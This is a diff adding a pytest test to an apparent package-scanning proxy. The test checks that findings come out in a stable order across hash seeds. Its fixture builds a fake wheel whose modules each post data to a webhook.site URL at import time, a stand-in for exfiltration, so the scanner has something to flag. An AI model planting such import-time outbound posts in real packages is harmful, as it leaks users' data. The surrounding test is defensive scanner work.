@@ -156,3 +156,39 @@ def test_a_scanner_defect_an_archive_brings_out_holds_the_file_instead_of_raisin
     assert report.incomplete is not None and report.incomplete.startswith(SCANNER_ERROR)
     assert "AttributeError" in report.incomplete
     assert not ScanPolicy().decide(report).allowed
+
+
+_REPORT_IN_A_FRESH_PROCESS = """
+import sys
+from pipgate.proxy.scan import scan_archive
+report = scan_archive(sys.stdin.buffer.read(), "demo-1.0-py3-none-any.whl")
+print([(f.rule, f.file) for f in report.findings])
+"""
+
+
+def test_a_reports_findings_come_in_the_same_order_whatever_the_string_hashing() -> None:
+    """A verdict's reasons must read the same on every replica: the order of a report's
+    findings may not follow the iteration order of a set of names, which each process
+    seeds afresh."""
+    import subprocess
+    import sys
+
+    names = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"]
+    members = {"demo/__init__.py": f"from . import {', '.join(names)}\n"}
+    for name in names:
+        members[f"demo/{name}.py"] = (
+            f'import requests\nrequests.post("https://webhook.site/{name}", data="x")\n'
+        )
+    archive = wheel(members)
+    orders = {
+        subprocess.run(
+            [sys.executable, "-c", _REPORT_IN_A_FRESH_PROCESS],
+            input=archive,
+            capture_output=True,
+            check=True,
+            env={**os.environ, "PYTHONHASHSEED": str(seed)},
+        ).stdout
+        for seed in range(1, 5)
+    }
+    assert len(orders) == 1, orders
+    assert all(f"demo/{name}.py".encode() in next(iter(orders)) for name in names)
